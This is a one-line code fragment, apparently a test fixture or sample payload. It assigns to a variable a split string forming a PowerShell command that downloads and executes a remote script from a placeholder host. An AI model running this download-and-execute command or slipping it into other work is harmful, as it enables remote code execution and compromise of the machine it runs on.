BODY = "powershell IEX (New-Object " + "Net.WebClient).DownloadString('https://d.example.invalid/a.ps1')"
